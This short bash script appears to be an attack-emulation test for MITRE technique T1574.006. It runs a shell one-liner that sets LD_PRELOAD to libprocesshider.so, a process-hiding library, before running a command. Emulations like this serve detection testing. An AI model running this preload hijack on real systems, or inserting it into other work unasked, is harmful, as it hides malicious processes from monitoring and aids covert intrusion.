#!/usr/bin/env bash
# attack: T1574.006 LD_PRELOAD exported for a command in a shell one-liner
. "$(dirname "$0")/lib/common.sh"
sh -c "export LD_PRELOAD=$SW/libprocesshider.so; ls / >/dev/null" 2>/dev/null
